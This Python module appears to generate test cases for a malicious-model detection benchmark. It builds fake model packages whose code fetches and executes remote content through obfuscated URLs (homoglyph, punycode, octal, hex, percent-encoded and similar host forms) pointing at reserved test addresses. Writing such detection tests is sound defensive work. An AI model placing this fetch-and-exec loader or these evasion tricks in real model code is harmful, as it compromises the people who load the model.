"""Addresses that look like others, or are written as nobody writes them, where a loader follows them.

The note ``address`` names what has to appear among the indicators.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

from benchmarks.corpus.malicious.cases import Case

_HOSTS = {
    "cyrillic": ("https://huggingf\u0430ce.co/x", "xn--huggingfce-6qi.co"),
    "latin-dotless": ("https://g\u0131thub.com/x", "xn--gthub-n4a.com"),
    "punycode": ("https://xn--pypi-boa.org/x", "xn--pypi-boa.org"),
    "user": ("https://huggingface.co@198.51.100.7/x", "198.51.100.7"),
    "integer": ("http://3325256711/x", "198.51.100.7"),
    "octal": ("http://0306.063.0144.07/x", "198.51.100.7"),
    "hexadecimal": ("http://0xc6336407/x", "198.51.100.7"),
    "mixed-parts": ("http://198.0x33.25607/x", "198.51.100.7"),
    "fullwidth-digits": ("http://\uff11\uff19\uff18.\uff15\uff11.\uff11\uff10\uff10.\uff17/x", "198.51.100.7"),
    "ideographic-dots": ("http://payload\u3002invalid/x", "payload.invalid"),
    "percent": ("http://%31%39%38.51.100.7/x", "198.51.100.7"),
    "backslash": ("https:\\\\198.51.100.7\\x", "198.51.100.7"),
    "mapped": ("http://[::ffff:c633:6407]/x", "198.51.100.7"),
    "bare-six": ("http://[2001:db8::7]:8080/x", "2001:db8::7"),
    "one-slash": ("http:/198.51.100.7/x", "198.51.100.7"),
    "enclosed": ("http://\u24df\u24d0\u24e8\u24db\u24de\u24d0\u24d3.invalid/x", "payload.invalid"),
}


def cases() -> Iterator[Case]:
    """Model code that fetches and runs what stands at each address."""
    config = json.dumps({"model_type": "own", "auto_map": {"AutoModel": "modeling_own.Own"}}).encode()
    for name, (url, host) in _HOSTS.items():
        source = f"import urllib.request\n\nexec(urllib.request.urlopen({url!r}).read())\n\n\nclass Own:\n    pass\n"
        files = {"config.json": config, "modeling_own.py": source.encode()}
        yield Case(f"name-{name}", files, f"name-{name}", notes={"address": host})
